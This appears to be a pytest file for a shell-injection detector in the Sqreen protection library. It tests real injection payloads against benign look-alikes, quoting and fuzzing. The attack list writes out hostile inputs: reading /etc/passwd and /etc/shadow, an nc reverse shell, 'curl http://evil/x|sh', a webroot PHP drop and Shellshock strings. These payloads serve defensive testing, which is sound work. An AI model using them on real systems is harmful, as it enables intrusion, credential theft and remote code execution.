"""Shell injection: real payloads built the way vulnerable apps build commands, and careful look-alikes."""
import pytest
from hypothesis import given, settings, strategies as st
from six.moves import shlex_quote

from sqreen import _log
from sqreen.protections._shell_injection import check_command, shell_script


def inputs(value):
    return [("query", "q", value), ("header", "user-agent", "Mozilla/5.0"), ("cookie", "session", "ab12cd34")]


# (template the app formats the input into, input); run by a shell.
ATTACKS = [
    ("ping -c 1 %s", "8.8.8.8; cat /etc/passwd"),
    ("ping -c 1 %s", "8.8.8.8 && id"),
    ("ping -c 1 %s", "8.8.8.8 || id"),
    ("ping -c 1 %s", "8.8.8.8 | nc -e /bin/sh 10.0.0.1 4444"),
    ("ping -c 1 %s", "8.8.8.8 & sleep 10"),
    ("ping -c 1 %s", "8.8.8.8>/var/www/html/x.php"),
    ("ping -c 1 %s", "8.8.8.8\nid"),
    ("ping -c 1 %s", "8.8.8.8\r\nid"),
    ("ping -c 1 %s", "$(id)"),
    ("ping -c 1 %s", "`id`"),
    ("ping -c 1 %s", "x${IFS}-c${IFS}99999"),
    ("ping -c 1 %s", "x$PATH"),
    ("ping -c 1 %s", "-c 999999 8.8.8.8"),
    ("ping %s -c 1", "127.0.0.1 #"),
    ("ping -c 1 %s", "(id)"),
    ("nslookup %s", "x;id"),
    ("nslookup %s", "x|id"),
    ("nslookup %s", "x<<EOF"),
    ("convert %s out.png", "in.png;curl http://evil/x|sh"),
    ("tar czf /tmp/%s.tgz data", "x.tgz /etc/shadow #"),
    ("rm -rf /data/%s/cache", "  "),
    ('echo "%s"', 'a"; id; echo "'),
    ('echo "%s"', "$(id)"),
    ('echo "%s"', "`id`"),
    ('echo "%s"', "${PATH}"),
    ('echo "%s"', "a\\"),
    ("grep '%s' /var/log/app.log", "x' /etc/passwd '"),
    ("grep '%s' /var/log/app.log", "x'; id; echo '"),
    ("grep '%s' /var/log/app.log", "x'$(id)'"),
    ("grep '%s' /var/log/app.log", "a'b"),
    ("echo $(basename %s)", "a b)"),
    ("echo $(basename %s)", "x; id"),
    ("mail -s %s admin", "hi 2>/tmp/x"),
]

PAYLOADS = sorted(set(value for _, value in ATTACKS if "'" not in value))


@pytest.mark.parametrize("template,value", ATTACKS)
def test_attack_through_a_shell_string(template, value):
    attack = check_command(template % value, inputs(value))
    assert attack is not None and attack.attack_type == "shell_injection"
    assert attack.input == ("query", "q", value)


@pytest.mark.parametrize("args", [
    ["sh", "-c", "ping -c 1 8.8.8.8; id"],
    ["/bin/bash", "-c", "ping -c 1 8.8.8.8; id"],
    ["bash", "-lc", "ping -c 1 8.8.8.8; id"],
    ["bash", "-e", "-o", "pipefail", "-c", "ping -c 1 8.8.8.8; id"],
    ["env", "-i", "LANG=C", "sh", "-c", "ping -c 1 8.8.8.8; id", "argv0"],
    ["busybox", "sh", "-c", "--", "ping -c 1 8.8.8.8; id"],
    [b"/bin/sh", b"-c", b"ping -c 1 8.8.8.8; id"],
])
def test_argument_list_that_starts_a_shell(args):
    attack = check_command(args, inputs("8.8.8.8; id"), shell=False)
    assert attack is not None and attack.reason == "adds an operator"


def test_argument_list_with_shell_true_runs_its_first_item():
    assert check_command(["ping -c 1 8.8.8.8; id", "ignored"], inputs("8.8.8.8; id")) is not None
    assert check_command(["ping", "8.8.8.8; id"], inputs("8.8.8.8; id")) is None  # "ping" is the script


@pytest.mark.parametrize("value", ["() { :; }; /bin/id", "  () { _; } >_[$($())] { id; }", "(){ :;};id"])
def test_shellshock_function_definition_in_the_environment(value):
    env = {"HTTP_USER_AGENT": value, "PATH": "/usr/bin"}
    attack = check_command(["/usr/lib/cgi-bin/status.cgi"], inputs(value), shell=False, env=env)
    assert attack is not None and attack.detail["variable"] == "HTTP_USER_AGENT"


# Careful apps: the same payloads quoted with shlex.quote, or run without a shell.
@pytest.mark.parametrize("value", PAYLOADS)
def test_quoted_by_the_app_is_not_an_attack(value):
    assert check_command("ping -c 1 %s" % shlex_quote(value), inputs(value)) is None


@pytest.mark.parametrize("value", PAYLOADS)
def test_argument_list_without_a_shell_is_never_an_attack(value):
    assert check_command(["ping", "-c", "1", value], inputs(value), shell=False) is None
    assert check_command("ping -c 1 %s" % value, inputs(value), shell=False) is None


BENIGN = [
    ('echo "%s"', "rock & roll"),
    ('echo "%s"', "a | b"),
    ('echo "%s"', "x > y; z < w"),
    ('echo "%s"', "semi;colon"),
    ('echo "%s"', "it's fine"),
    ('echo "%s"', "US$ 5 (approx.)"),
    ('echo "%s"', "  padded  "),
    ('echo "%s"', "line one\nline two"),
    ("grep '%s' /var/log/app.log", "$(id) and `id` and $HOME"),
    ("grep '%s' /var/log/app.log", 'say "hi"; bye'),
    ("grep -e %s log", "user@example.com"),
    ("convert %s out.png", "report-2024.v2.pdf"),
    ("convert %s out.png", "x#y"),
    ("convert %s out.png", "key=value"),
    ("convert %s out.png", "C:\\temp\\a.png"),
    ("convert %s out.png", '"quoted name"'),
    ("convert %s out.png", "a\\ b.png"),
    ("convert %s out.png", "100%"),
    ("convert %s out.png", "~user/x"),
    ("convert %s out.png", "wow!"),
    ("convert %s out.png", "a$"),
    ("echo %s", "john "),
    ("echo %s | tr a-z A-Z", "hello "),
    ("echo $(basename %s)", "report.pdf"),
    ("true # note: %s", "anything; goes | here"),
    ("ls -l %s", "-la"),
]


@pytest.mark.parametrize("template,value", BENIGN)
def test_data_inside_one_word_is_not_an_attack(template, value):
    assert check_command(template % value, inputs(value)) is None


@pytest.mark.parametrize("env_value", ["Mozilla/5.0 (X11; Linux)", "text () { with } braces", "()"])
def test_environment_without_a_function_definition(env_value):
    env = {"HTTP_USER_AGENT": env_value}
    assert check_command(["status.cgi"], inputs(env_value), shell=False, env=env) is None


def test_function_definition_the_app_wrote_itself():
    env = {"BASH_FUNC_f%%": "() { echo hi; }"}
    assert check_command(["bash", "x.sh"], inputs("echo hi"), shell=False, env=env) is None


def test_no_inputs_or_no_occurrence():
    assert check_command("ping -c 1 8.8.8.8; id", []) is None
    assert check_command("ping -c 1 8.8.8.8; id", inputs("unrelated;value")) is None


@pytest.mark.parametrize("args,script", [
    (["sh", "-c", "x"], "x"),
    (["sh", "-ec", "x"], "x"),
    (["sh", "x.sh"], None),
    (["sh", "-c"], None),
    (["python", "-c", "x"], None),
    (["zsh", "+x", "-c", "x"], "x"),
    (["nohup", "/usr/bin/dash", "-c", "x"], "x"),
])
def test_shell_script_of_an_argument_list(args, script):
    assert shell_script(args) == script


def test_errors_are_logged_once_and_never_raised():
    class Broken(object):
        def __iter__(self):
            raise RuntimeError("boom")

    _log.reset()
    assert check_command(Broken(), inputs("x; id")) is None
    assert _log.counters().get("protections.shell_injection") == 1


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(alphabet=list("ab ;&|<>()$`'\"\\#{}\n-") + [u"\u00e9"], max_size=40), st.data())
def test_fuzz_never_raises(command, data):
    _log.reset()
    if len(command) >= 2:
        start = data.draw(st.integers(0, len(command) - 2))
        end = data.draw(st.integers(start + 2, len(command)))
        value = command[start:end]
    else:
        value = "zz"
    result = check_command(command, inputs(value))
    assert result is None or result.input[2] == value
    assert "protections.shell_injection" not in _log.counters()
